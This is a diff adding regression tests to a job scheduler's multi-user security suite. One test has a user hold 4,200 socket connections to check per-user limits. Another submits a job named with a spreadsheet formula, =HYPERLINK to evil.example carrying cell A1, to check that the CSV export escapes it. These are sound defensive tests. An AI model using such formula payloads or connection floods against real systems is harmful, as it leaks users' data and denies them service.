@@ -5,12 +5,16 @@ cluster.yaml's admin_group).  dtsched and the agent run as root (`mode: team`); 
 dtctl reaches dtsched over its local socket, where the kernel names the caller (SO_PEERCRED):
 nothing the client sends says who it is.  The tests check the owner of each job, `whoami`,
 `ps`'s filters, the redaction of others' jobs, and that every refusal names its rule."""
+import ast
 import contextlib
+import csv
+import io
 import json
 import os
 import shutil
 import subprocess
 import tempfile
+import time
 from pathlib import Path
 
 import pytest
@@ -220,6 +224,72 @@ def test_daemon_endpoints_refused_on_the_socket(team):
         assert "for dtctl's daemons only" in body, body
 
 
+HOLD = r"""
+import resource, socket, sys
+path, proto, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+if hard != resource.RLIM_INFINITY and hard < n + 64:
+    print("skip: open file limit %d" % hard, flush=True)
+    sys.exit(0)
+resource.setrlimit(resource.RLIMIT_NOFILE, (n + 64, hard))
+held, answers = [], {}
+req = ("GET /v1/whoami HTTP/1.1\r\nHost: x\r\nX-DT-Protocol: %s\r\n\r\n" % proto).encode()
+for i in range(n):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(5)
+    try:
+        s.connect(path)
+        s.sendall(req)
+        d = s.recv(65536)
+    except OSError as e:
+        d = ("error " + e.__class__.__name__).encode()
+    key = d.split(b"\r\n")[0].decode(errors="replace") if d else "closed"
+    answers[key] = answers.get(key, 0) + 1
+    if key.startswith("HTTP/1.1 429") and "429 body" not in answers:
+        answers["429 body"] = d.decode(errors="replace").split("\r\n\r\n", 1)[-1]
+    held.append(s)
+    if not key.startswith(("HTTP/1.1 200", "HTTP/1.1 429")):
+        break   # dtsched takes no more: hold what it took
+print(repr(answers), flush=True)
+sys.stdin.read()   # hold them until the test is done
+"""
+
+
+def test_one_user_cannot_hold_every_connection(team):
+    """bob opens 4,200 connections to dtsched's local socket, each with one request, and
+    keeps them (as `dtctl events -f` sessions would): a connection that carried a request
+    is never evicted as a flood.  Without a bound per user he held every connection the
+    socket takes (4096) and alice's dtctl was refused; now his beyond a bound are answered
+    429 naming the rule and closed, and alice (and, once he lets go, bob) is served."""
+    p = subprocess.Popen(["runuser", "-u", BOB, "--", "/usr/bin/python3", "-c", HOLD,
+                          str(team.sock), str(PROTOCOL), "4200"], stdin=subprocess.PIPE,
+                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        line = p.stdout.readline()
+        if line.startswith("skip:"):
+            pytest.skip(line.strip())
+        assert line, p.stderr.read()
+        answers = ast.literal_eval(line)
+        for argv in (["whoami"], ["ps"]):
+            a = as_user(team, ALICE, *argv, timeout=20)
+            assert a.returncode == 0, (argv, a.stdout, a.stderr, answers)
+        assert team.node_json()["state"] == "UP", team.node_json()
+        ok = sum(v for k, v in answers.items() if k.startswith("HTTP/1.1 200"))
+        refused = sum(v for k, v in answers.items() if k.startswith("HTTP/1.1 429"))
+        assert 0 < ok < 1024 and refused == 4200 - ok, answers
+        assert "holds %d open connections" % ok in answers["429 body"], answers
+    finally:
+        p.stdin.close()
+        p.wait(timeout=60)
+    deadline = time.time() + 30
+    while True:   # dtsched sees bob's connections close: he is served again
+        b = as_user(team, BOB, "whoami")
+        if b.returncode == 0 or time.time() > deadline:
+            break
+        time.sleep(0.2)
+    assert b.returncode == 0, (b.stdout, b.stderr)
+
+
 def test_the_user_field_of_a_submit_is_not_believed(team):
     """A submit that says "user": bob, sent by alice, is alice's job."""
     body = json.dumps({"job": {"name": "forged", "command": ["sleep", "30"]},
@@ -264,6 +334,21 @@ def wait_state(c, job, states, timeout=30):
             return j
         assert time.monotonic() < deadline, "job %s not %s: %s" % (job, states, j)
         time.sleep(0.2)
+
+
+def test_acct_csv_shows_anothers_job_name_as_text(team):
+    """acct shows every user's job names; in --csv a name such as =HYPERLINK(...) ran as a
+    formula in the spreadsheet of whoever opened it (sending the sheet's cells away): now
+    such a field begins with "'" and a spreadsheet shows it as text."""
+    name = '=HYPERLINK("https://evil.example/?"&A1,"ok")'
+    job = submit(team, ALICE, "true", name=name)
+    wait_state(team, job, ("COMPLETED",))
+    p = as_user(team, BOB, "acct", "--csv")
+    assert p.returncode == 0, p.stderr
+    rows = list(csv.DictReader(io.StringIO(p.stdout)))
+    mine = [r for r in rows if r["id"] == job]
+    assert len(mine) == 1 and mine[0]["user"] == ALICE, p.stdout
+    assert mine[0]["name"] == "'" + name, mine
 
 
 def proc_ids(pid):
